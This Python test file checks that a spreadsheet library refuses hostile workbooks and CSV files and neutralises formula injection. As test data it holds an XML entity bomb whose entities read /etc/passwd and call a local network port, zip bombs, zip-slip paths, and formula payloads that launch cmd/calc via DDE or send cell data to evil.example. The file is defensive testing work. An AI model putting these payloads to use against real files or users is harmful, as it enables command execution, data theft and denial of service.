"""Workbooks that swell, lie, or compute; and tables without end."""

import io
import struct
import zipfile
from pathlib import Path

import pytest
import xlsxwriter

from berdikari.edge.sheets.csv_file import read_csv
from berdikari.edge.sheets.excel import read_excel
from berdikari.edge.sheets.files import read_table, write_tables
from berdikari.edge.sheets.table import Table
from berdikari.edge.sheets.workbook import read_workbook
from berdikari.errors import InvalidSheetError

from .conftest import TIGHT

SHEET = "xl/worksheets/sheet1.xml"
BOMB = b'<!DOCTYPE x [<!ENTITY a "lol">' + b"".join(
    b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9)
) + b'<!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY net SYSTEM "http://127.0.0.1:9/">]>'  # fmt: skip


def book(file: Path, *cells, changed=None, extra=()):
    """A workbook with texts in these places. changed: part and how it is changed; extra: more parts."""
    raw = io.BytesIO()
    with xlsxwriter.Workbook(raw, {"strings_to_formulas": False}) as made:
        sheet = made.add_worksheet()
        sheet.write_string(0, 0, "name")
        for row, column, text in cells:
            sheet.write_string(row, column, text)
    with zipfile.ZipFile(raw) as old, zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as new:
        for part in old.infolist():
            content = old.read(part)
            if changed and part.filename == changed[0]:
                content = changed[1](content)
                assert content != old.read(part)
            new.writestr(part.filename, content)
        for name, content in extra:
            new.writestr(name, content)
    return file


def after_declaration(more):
    return lambda content: content.replace(b"?>", b"?>" + more, 1)


@pytest.fixture
def file(tmp_path):
    return tmp_path / "sheet.xlsx"


def lying(file):
    """Says of its largest part that it is small."""
    raw = file.read_bytes()
    with zipfile.ZipFile(file) as archive:
        part = archive.getinfo(SHEET)
    size, small = struct.pack("<L", part.file_size), struct.pack("<L", 100)
    assert raw.count(size) >= 2
    file.write_bytes(raw.replace(size, small))


HOSTILE = {
    "a cell in the last corner": lambda file: book(file, (1_048_575, 16_383, "x")),
    "a cell in the last row": lambda file: book(file, (1_048_575, 200, "x")),
    "more cells than are taken": lambda file: book(file, (60_000, 100, "x")),
    "a part that swells a thousand times": lambda file: book(file, extra=[("xl/media/a.bin", b"\0" * 80_000_000)]),
    "a sheet that swells": lambda file: book(
        file, changed=(SHEET, lambda one: one.replace(b"<sheetData>", b"<sheetData>" + b" " * 80_000_000))
    ),
    "ten thousand parts": lambda file: book(file, extra=[(f"xl/media/{n}", b"") for n in range(10_001)]),
    "entities that multiply": lambda file: book(
        file,
        (1, 0, "XX"),
        changed=("xl/sharedStrings.xml", lambda one: after_declaration(BOMB)(one).replace(b"XX", b"&j;")),
    ),
    "an entity that reads a file": lambda file: book(
        file,
        (1, 0, "XX"),
        changed=("xl/sharedStrings.xml", lambda one: after_declaration(BOMB)(one).replace(b"XX", b"&file;")),
    ),
    "an entity that calls the network": lambda file: book(
        file,
        (1, 0, "XX"),
        changed=("xl/sharedStrings.xml", lambda one: after_declaration(BOMB)(one).replace(b"XX", b"&net;")),
    ),
    "half a workbook": lambda file: file.write_bytes(book(file).read_bytes()[:2000]),
    "an archive that is no workbook": lambda file: zipfile.ZipFile(file, "w").close(),
    "bytes by chance": lambda file: file.write_bytes(b"PK\x03\x04" + bytes(range(256)) * 20),
    "an old workbook that is none": lambda file: file.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 4000),
    "nothing": lambda file: file.write_bytes(b""),
    "a text": lambda file: file.write_text("name;x"),
}  # fmt: skip


@pytest.mark.parametrize("make", HOSTILE.values(), ids=HOSTILE)
def test_a_hostile_workbook_is_refused_in_words(make, file):
    make(file)
    with pytest.raises(InvalidSheetError) as fault:
        read_workbook(file, settings=TIGHT)
    assert "sheet.xlsx" in str(fault.value)
    assert "Traceback" not in str(fault.value)
    assert "root:" not in str(fault.value)


def test_a_part_that_lies_about_its_size_meets_the_limits_of_the_reader(file):
    rows = b"".join(b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (n, n) for n in range(2, 200_000))
    book(file, changed=(SHEET, lambda one: one.replace(b"</sheetData>", rows + b"</sheetData>")))
    lying(file)
    try:
        _, found = read_workbook(file, settings=TIGHT)
    except InvalidSheetError:
        return
    assert len(found) < 200_000


def test_a_dimension_that_lies_is_not_believed(file):
    book(file, (1, 0, "x"), changed=(SHEET, lambda one: one.replace(b'ref="A1:A2"', b'ref="A1:XFD1048576"')))
    assert read_excel(file).rows == (("x",),)


def test_a_part_that_would_be_written_elsewhere_is_never_unpacked(file, tmp_path):
    book(file, (1, 0, "x"), extra=[("../../outside.txt", b"x"), ("/tmp/outside.txt", b"x")])
    assert read_excel(file).rows == (("x",),)
    assert list(tmp_path.rglob("outside.txt")) == []


FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"klik")', '=WEBSERVICE("http://evil.example")', '=IMPORTXML("http://e","//a")',
    "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "'=1+1", '=DDE("cmd";"/C calc";"x")',
    "-1", "+62 21 5201590", "%0A=1+1", "a;=1+1", 'a,"=1+1"', "a;\t=1+1", "a\n@SUM(1)", ";;;=1", "a;'=1+1",
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_a_formula_never_goes_live_and_comes_back_as_it_was(text, tmp_path):
    table = Table(name="t", columns=("name",), rows=((text,),))
    [excel], [plain] = (write_tables([table], tmp_path / f"t{ending}") for ending in (".xlsx", ".csv"))
    with zipfile.ZipFile(excel) as archive:
        assert b"<f>" not in archive.read(SHEET)
        assert not [name for name in archive.namelist() if "external" in name.lower() or "rels/sheet" in name]
    raw = plain.read_text("utf-8-sig").split("\n", 1)[1].lstrip('"')
    assert raw[0] not in "=+-@\t\r\n＝＋－＠"
    assert read_table(plain).rows == ((text,),)
    if "\r" not in text:  # XML keeps no carriage return
        assert read_table(excel).rows == ((text,),)


def test_a_table_of_separators_only_is_refused(tmp_path):
    file = tmp_path / "t.csv"
    file.write_text("a,b\n" + "," * 6_000_000)
    with pytest.raises(InvalidSheetError, match="more than 5000000 cells"):
        read_csv(file)


def test_a_table_that_is_too_large_is_not_opened(tmp_path):
    file = tmp_path / "t.csv"
    with file.open("wb") as made:
        made.truncate(101 * 2**20)
    with pytest.raises(InvalidSheetError, match="at most"):
        read_table(file)


def test_a_table_of_nulls_or_of_another_encoding(tmp_path):
    for raw in (b"\xff" * 100, b"\xff\xfea", b"", b"\0" * 50):
        (tmp_path / "t.csv").write_bytes(raw)
        with pytest.raises(InvalidSheetError):
            read_csv(tmp_path / "t.csv")
